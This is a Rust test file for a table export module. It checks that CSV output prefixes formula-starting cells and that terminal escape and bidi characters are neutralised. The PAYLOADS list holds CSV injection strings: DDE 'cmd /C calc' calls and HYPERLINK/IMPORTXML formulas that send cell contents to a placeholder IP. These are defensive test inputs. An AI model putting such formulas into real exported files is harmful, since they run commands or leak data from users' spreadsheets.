//! What is written for other programs: nothing acts in a spreadsheet or on a terminal, and nothing is lost elsewhere.

use super::*;
use crate::table::{Export, Form, Order};

fn written(table: &Arc<Table>, form: Form) -> String {
    let columns = (0..table.columns().len()).collect();
    let export = Export { table: Arc::clone(table), order: Order::default(), columns };
    let mut out = Vec::new();
    assert_eq!(export.write(form, &Stop::default(), &mut out).unwrap(), table.rows() as usize);
    String::from_utf8(out).unwrap()
}

/// OWASP, CSV Injection: what begins a formula, with quotes, blanks and full-width signs before it.
const PAYLOADS: [&str; 22] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://192.0.2.1/?x=\"&A1,\"here\")",
    "=IMPORTXML(CONCAT(\"http://192.0.2.1/?v=\",A1),\"//a\")",
    "+1+cmd|' /C calc'!A0",
    "+SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "-1-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\"=1+1\"",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "=\"a\",=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=1+1\nnext",
];

#[test]
fn f16_twenty_two_formulas_are_text_in_a_spreadsheet_and_as_they_are_elsewhere() {
    let mut content = csv::Writer::from_writer(Vec::new());
    content.write_record(["=title", "n"]).unwrap();
    for payload in PAYLOADS {
        content.write_record([payload, "-42"]).unwrap();
    }
    let table = of(&content.into_inner().unwrap());
    let csv = written(&table, Form::Csv);
    let mut rows = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
    let rows: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
    assert_eq!(&rows[0][0], "'=title");
    for (row, payload) in rows[1..].iter().zip(PAYLOADS) {
        let kept = format!("'{}", payload.replace('\r', "^M"));
        assert_eq!((&row[0], &row[1]), (kept.as_str(), "-42"), "{payload:?}");
    }
    let lines = written(&table, Form::JsonLines);
    let read =
        |text: &str| serde_json::from_str::<serde_json::Value>(text).unwrap()["=title"].as_str().unwrap().to_owned();
    assert_eq!(lines.lines().map(read).collect::<Vec<_>>(), PAYLOADS);
    let whole: serde_json::Value = serde_json::from_str(&written(&table, Form::Json)).unwrap();
    assert_eq!(whole.as_array().map(Vec::len), Some(PAYLOADS.len()));
}

#[test]
fn nothing_that_is_written_acts_on_a_terminal() {
    let table = of("a,b\n\"\u{1b}]0;x\u{7}\nsecond\",a|b\u{202e}<b>\n".as_bytes());
    for form in [Form::Csv, Form::Json, Form::JsonLines, Form::Markdown] {
        let text = written(&table, form);
        assert!(!text.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{form:?}: {text:?}");
    }
    let back: serde_json::Value = serde_json::from_str(&written(&table, Form::Json)).unwrap();
    assert_eq!(back[0]["a"], "\u{1b}]0;x\u{7}\nsecond");
    assert!(written(&table, Form::Csv).contains("^[]0;x^G\nsecond"));
    assert!(written(&table, Form::Markdown).contains("a\\|b&lt;U+202E>&lt;b>"));
}

#[test]
fn rows_in_any_order_are_written_in_that_order_however_long_they_are() {
    let mut content = String::from("id,text\n");
    for n in 0..3_000_u32 {
        // Some are so long that not all of them are held at once.
        let text = if n % 50 == 0 { "x".repeat(700_000) } else { n.to_string() };
        content.extend([n.to_string().as_str(), ",", &text, "\n"]);
    }
    let table = of(content.as_bytes());
    drop(content);
    let mut order: Vec<u32> = (0..3_000).map(|n| n * 1_999 % 3_000).collect();
    order.sort_by_key(|n| n % 50 != 0);
    let export = Export {
        table: Arc::clone(&table),
        order: Order { rows: Some(order.clone().into()), reversed: true },
        columns: vec![0],
    };
    let mut out = Vec::new();
    assert_eq!(export.write(Form::Csv, &Stop::default(), &mut out).unwrap(), 3_000);
    let written: Vec<u32> = String::from_utf8(out).unwrap().lines().skip(1).map(|line| line.parse().unwrap()).collect();
    assert_eq!(written, order.into_iter().rev().collect::<Vec<_>>());
}
